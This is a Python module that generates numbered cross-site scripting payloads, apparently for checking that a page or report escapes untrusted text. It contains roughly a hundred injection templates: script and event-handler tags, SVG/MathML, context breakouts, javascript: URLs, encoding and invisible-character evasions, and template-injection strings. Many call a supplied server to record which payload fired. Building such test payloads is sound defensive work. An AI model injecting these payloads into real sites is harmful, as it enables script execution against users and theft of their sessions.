"""Attack payloads: text that runs a script or loads something if a page includes it unescaped.

Each payload has a number. If it runs, it sets the title of the page, requests that number from a server, or opens a
dialog.
"""

from __future__ import annotations

from collections.abc import Iterator

# {do} is a script without quotes and angle brackets, {url} an address of the server that records requests.
_TEMPLATES = (
    # elements
    "<script>{do}</script>",
    "<SCRIPT>{do}</SCRIPT >",
    "<script\n>{do}</script\t>",
    "<script/x>{do}</script>",
    "<script src={url}></script>",
    "<script type=module>{do}</script>",
    "<scr<script>ipt>{do}</scr</script>ipt>",
    "<script>{do}//",
    "<<script>{do}//<</script>",
    "<iframe src={url}></iframe>",
    "<iframe srcdoc='&lt;script&gt;{do}&lt;/script&gt;'></iframe>",
    "<object data={url}></object>",
    "<embed src={url}>",
    "<link rel=stylesheet href={url}>",
    "<base href={url}/>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<form action={url}><input autofocus onfocus={do}></form>",
    "<template><script>{do}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={do}>'>",
    "<xmp><script>{do}</script></xmp>",
    "<plaintext><img src=x onerror={do}>",
    # event handlers
    "<img src=x onerror={do}>",
    "<img src=x onerror='{do}'>",
    '<img src=x onerror="{do}">',
    "<img src=`x`onerror={do}>",
    "<img/src/onerror={do}>",
    "<IMG SRC=x OnErRoR={do}>",
    "<img src={url}>",
    "<body onload={do}>",
    "<input autofocus onfocus={do}>",
    "<details open ontoggle={do}><summary>x</summary></details>",
    "<video><source onerror={do}></video>",
    "<audio src=x onerror={do}>",
    "<marquee onstart={do}>x</marquee>",
    "<p style=animation-name:x onanimationstart={do}>x</p>",
    "<x contenteditable onfocus={do} autofocus tabindex=1>",
    # SVG and MathML
    "<svg onload={do}>",
    "<svg><script>{do}</script></svg>",
    "<svg><animate onbegin={do} attributeName=x dur=1s>",
    "<svg><image href={url}></svg>",
    "<svg><use href='{url}#x'></svg>",
    "<svg><foreignObject><img src=x onerror={do}></foreignObject></svg>",
    "<svg><style><img src=x onerror={do}></style></svg>",
    "<math><mtext><img src=x onerror={do}></mtext></math>",
    "<math href=javascript:{do}>x</math>",
    # breaking out of the elements in which a report puts text
    "\" onmouseover='{do}' x=\"",
    "' autofocus onfocus={do} '",
    '"><script>{do}</script>',
    "'><img src=x onerror={do}>",
    "</bdi></td></tr></table><script>{do}</script>",
    "</title><script>{do}</script>",
    "</desc></svg><img src=x onerror={do}>",
    "</text></svg><script>{do}</script>",
    "</style><script>{do}</script>",
    "</pre></code><svg onload={do}>",
    "</summary></details><img src=x onerror={do}>",
    "--><script>{do}</script><!--",
    "--!><img src=x onerror={do}>",
    "<!--><img src=x onerror={do}>-->",
    "]]><script>{do}</script>",
    "<![CDATA[<script>{do}</script>]]>",
    "<?xml version=1.0?><script>{do}</script>",
    # URLs that are scripts
    "javascript:{do}",
    "<a href=javascript:{do} id=x autofocus>x</a>",
    "<a href='java\tscript:{do}'>x</a>",
    "data:text/html,<script>{do}</script>",
    "<iframe src=javascript:{do}></iframe>",
    # style
    "<style>@import '{url}';</style>",
    "<p style='background:url({url})'>x</p>",
    "}} body{{background:url({url})}} x{{",
    "expression({do})",
    # entities and encodings
    "&lt;script&gt;{do}&lt;/script&gt;",
    "&#60;script&#62;{do}&#60;/script&#62;",
    "&#x3c;img src=x onerror={do}&#x3e;",
    "&amp;lt;script&amp;gt;{do}&amp;lt;/script&amp;gt;",
    "+ADw-script+AD4-{do}+ADw-/script+AD4-",
    "\ufeff<script>{do}</script>",
    "\uff1cscript\uff1e{do}\uff1c/script\uff1e",
    "%3Cscript%3E{do}%3C/script%3E",
    "\\x3cscript\\x3e{do}\\x3c/script\\x3e",
    "\\u003cscript\\u003e{do}",
    # invisible characters
    "<scr\x00ipt>{do}</scr\x00ipt>",
    "\x00<img src=x onerror={do}>\x1b]0;x\x07",
    "\u202e<script>{do}</script>\u2066\u2069",
    "\u2028<script>{do}</script>\u2029",
    "<img\x0bsrc=x\x0conerror={do}>",
    "\x1a<script>{do}</script>\x85",
    # template languages
    "{{{{constructor.constructor('{do}')()}}}}",
    "${{{do}}}",
    "<%= {do} %>",
    "#{{{do}}}",
    "{{% raw %}}<script>{do}</script>",
)
_LONG = (
    "<b>" * 2_000 + "<script>{do}</script>",
    "x" * 5_000 + "<img src=x onerror={do}>",
    "é\u202e" * 900 + "<script>{do}",
)
_DOING = ("document.title={number}", "fetch(`{server}/{number}`)", "alert({number})")


def payloads(server: str) -> Iterator[str]:
    """Yield all payloads; one that runs sends a request to `server`."""
    number = 0
    for doing in _DOING:
        for template in (*_TEMPLATES, *_LONG):
            number += 1
            do = doing.format(number=number, server=server)
            yield template.format(do=do, url=f"{server}/{number}")
